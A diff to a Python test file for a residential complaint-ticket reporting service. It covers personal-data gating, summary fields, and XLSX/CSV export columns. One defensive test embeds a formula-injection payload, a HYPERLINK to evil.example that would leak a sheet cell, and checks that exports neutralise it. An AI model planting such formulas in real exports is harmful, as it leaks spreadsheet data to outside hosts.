@@ -124,10 +124,14 @@ async def test_trend_is_daily_for_a_month(october: Report) -> None:
 async def test_personal_data_only_when_asked(service: ReportService, october: Report) -> None:
     t1 = next(r for r in october.tickets if r.number == "2610-0001")
     assert (t1.phone, t1.resident_name, t1.location_text) == (None, None, None)
-    assert PHONE not in t1.description and "王阿姨" not in t1.description
-    assert "502" not in t1.description and "电钻很吵" in t1.description
+    # Without personal data no one's words: the public summary (here the default) instead.
+    assert (t1.description, t1.outcome) == (None, None)
+    assert t1.summary == "噪音扰民 · 幸福小区3号楼 · 已办结"
     full = await service.report(month_period(2026, 10), with_personal_data=True)
     rows = {r.number: r for r in full.tickets}
+    assert rows["2610-0001"].description == data.T1_TEXT
+    assert rows["2610-0001"].outcome == "已约谈业主，装修改在白天进行"
+    assert rows["2610-0001"].summary == t1.summary
     assert (rows["2610-0001"].phone, rows["2610-0001"].resident_name) == (PHONE, "王阿姨")
     assert rows["2610-0002"].resident_name is None  # anonymous, even for admins
     assert full.totals == october.totals
@@ -229,11 +233,12 @@ async def test_xlsx_has_a_figures_sheet_and_a_tickets_sheet(
     assert tickets[1][5] == "2026-10-01 10:00" and "电话" not in tickets[0]
     full = await service.report(month_period(2026, 10), with_personal_data=True)
     rows = list(openpyxl.load_workbook(io.BytesIO(export.to_xlsx(full)))["工单"].values)
-    assert rows[0][-3:] == ("居民", "电话", "地点") and rows[1][-2] == PHONE
+    assert rows[0][-5:] == ("反映内容", "办理结果", "居民", "电话", "地点")
+    assert rows[1][-2] == PHONE and rows[1][-5] == data.T1_TEXT
 
 
 async def test_csv_opens_with_the_csv_module(october: Report) -> None:
-    for rows, width in ((export.figure_rows(october), 23), (export.ticket_rows(october), 18)):
+    for rows, width in ((export.figure_rows(october), 23), (export.ticket_rows(october), 17)):
         text = export.to_csv(rows).decode("utf-8-sig")
         parsed = list(csv.reader(io.StringIO(text)))
         assert len(parsed[0]) == width
@@ -254,7 +259,9 @@ async def test_tickets_worked_through_the_ticket_service(desk: Desk) -> None:
     await desk.tickets.resident.rate(Actor.in_private(RESIDENT), unsolved, False, 2, "还是很吵")
     await desk.tickets.staff.resolve(Actor(STAFF, STAFF_CHAT), unsolved, "再次上门处理")
     await desk.tickets.staff.close(Actor(STAFF, STAFF_CHAT), unsolved)
-    report = await ReportService(desk.db, desk.clock).report(month_period(2026, 11))
+    report = await ReportService(desk.db, desk.clock).report(
+        month_period(2026, 11), with_personal_data=True
+    )
     f = report.totals
     assert (f.received, f.response_rate, f.median_first_response_h) == (2, 1.0, 1.0)
     assert (f.confirmed, f.staff_only, f.reopened) == (1, 1, 1)
@@ -262,17 +269,17 @@ async def test_tickets_worked_through_the_ticket_service(desk: Desk) -> None:
     assert {r.number: r.outcome for r in report.tickets}[unsolved] == "再次上门处理"
 
 
-async def test_no_cell_a_resident_wrote_is_ever_a_formula(october: Report) -> None:
-    # A description that a spreadsheet would run: a link that leaks the sheet, or worse.
+async def test_no_cell_anyone_wrote_is_ever_a_formula(october: Report) -> None:
+    # A summary that a spreadsheet would run: a link that leaks the sheet, or worse.
     attack = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
     rows = export.ticket_rows(october)
-    column = rows[0].index("反映内容")
+    column = rows[0].index("公开摘要")
     rows[1][column] = attack
     rows[2][column] = "-1+2"
     parsed = list(csv.reader(io.StringIO(export.to_csv(rows).decode("utf-8-sig"))))
     assert parsed[1][column] == "'" + attack and parsed[2][column] == "'-1+2"
 
-    tickets = dataclasses.replace(october.tickets[0], description=attack)
+    tickets = dataclasses.replace(october.tickets[0], summary=attack)
     book = openpyxl.load_workbook(
         io.BytesIO(export.to_xlsx(dataclasses.replace(october, tickets=(tickets,))))
     )
